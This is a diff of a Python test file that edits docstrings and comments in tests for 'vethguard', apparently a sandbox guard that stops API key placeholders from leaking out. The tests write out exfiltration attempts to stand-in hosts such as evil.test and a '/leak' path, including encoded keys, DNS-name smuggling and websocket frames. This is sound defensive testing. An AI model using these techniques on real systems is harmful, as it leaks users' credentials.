@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
-"""A placeholder that leaves for where it does not belong: in every form and over every way it is found, and nothing of the request
-arrives unless the policy says on_leak: alert; what is no placeholder passes."""
+"""A placeholder is sent where it does not belong: vethguard finds it in every form and on every way out, and the upstream gets no whole
+placeholder unless the policy says on_leak: alert. What is no placeholder passes."""
 import base64
 import gzip
 import json
@@ -20,7 +20,7 @@ def post(host, path, body, *fields):
 
 
 def forms(key):
-    """Every way to write it that is found."""
+    """Returns every form of the key that is found: {name: bytes}."""
     raw = key.encode()
     out = {"plain": raw, "hex": raw.hex().encode(), "upper hex": raw.hex().upper().encode(), "percent": "".join(f"%{b:02x}" for b in raw).encode(),
            "some percent": raw.replace(b"-", b"%2D"), "json": "".join(f"\\u{b:04x}" for b in raw).encode(), "json slash": raw.replace(b"-", b"\\u002d")}
@@ -42,7 +42,7 @@ class Tripwires(support.Case):
 
 class Blocks(Tripwires):
     def test_every_form_in_a_body(self):
-        """Also cut at any place, in chunks, in gzip, and in a trailer: the upstream gets no whole placeholder."""
+        """Each form, in a body that is whole, in chunks of 7 bytes or in gzip: the upstream gets no whole placeholder."""
         box = self.box()
         key = box.sh("printf %s $API_KEY").out
         cases = {}
@@ -92,7 +92,7 @@ def chunked(host, path, pieces):
         cases["parameter"] = "fetch('www.lab.test', '/leak?' + k + '=1')[0]"
         cases["plain http"] = "fetch('plain.lab.test', '/leak', port=80, plain=True, fields=('X: ' + k,))[0]"
         cases["host"] = "fetch(k.replace('_', '-') + '.wild.lab.test', '/leak')[0]"
-        del cases["json query"], cases["json slash query"]  # a backslash is not of a query
+        del cases["json query"], cases["json slash query"]  # a query has no backslash
         got = self.run_all_with_helpers(box, cases)
         self.assertEqual({n: v for n, v in got.items() if v != "403"}, {})
         self.assertEqual([r["path"] for r in self.seen("http") if r["path"].startswith("/leak")], [])
@@ -106,7 +106,7 @@ def chunked(host, path, pieces):
         self.assertIn("Leave the value of the key's variable out", r)
 
     def test_names(self):
-        """DNS never leaves; a name in a hello or of a tunnel is refused before anything is dialed."""
+        """A DNS query for a name with a placeholder never leaves, and is reported."""
         box = self.box()
         box.py(KEY + "import socket\nfor n in (k + '.evil.test', k[:20] + '.' + k[20:] + '.evil.test', k.encode().hex()[:60] + '.' + k.encode().hex()[60:] + '.evil.test'):\n"
                " try: socket.getaddrinfo(n, 443)\n except OSError: pass\n")
@@ -131,18 +131,18 @@ def chunked(host, path, pieces):
                      "p = k.encode()\ns.sendall(bytes([0x81, 0x80 | len(p), 0, 0, 0, 0]) + p)\nprint(r.take(4))")
         self.assertIn("101", out.out)
         self.assertIn(repr(b"\x88"[:1])[2:-1], out.out)
-        self.assertIn("\\x03\\xf0", out.out)  # 1008
+        self.assertIn("\\x03\\xf0", out.out)  # close code 1008
         self.assertEqual(len(self.findings(box)), 1)
 
     def test_what_is_none_passes(self):
-        """Words of the documentation, another sandbox's, a cut one, one in its own place."""
+        """These pass: the word vethguard, a placeholder that is cut or of another sandbox, and a placeholder sent to its own host."""
         box = self.box()
         key = box.sh("printf %s $API_KEY").out
         rows = [b"vethguard", key[:-1].encode(), b"vethguard-api-0000000000000000", b"76657468677561726400", key[:10].encode().hex().encode(), b"x" * 100000]
         for i, text in enumerate(rows):
             self.assertEqual(box.py(KEY + f"print(post('www.lab.test', '/fine{i}', {text!r}))").out.strip(), "200", text[:40])
         self.assertEqual(box.py(KEY + "print(post('api.lab.test', '/fine', k.encode(), 'Authorization: Bearer ' + k))").out.strip(), "200")
-        self.assertEqual(len(self.findings(box)), 1)  # the last one: told, but it tells its own host nothing
+        self.assertEqual(len(self.findings(box)), 1)  # of the last request: it passes, since the host knows the credential
 
     def test_a_body_that_inflates_to_too_much(self):
         box = self.box()
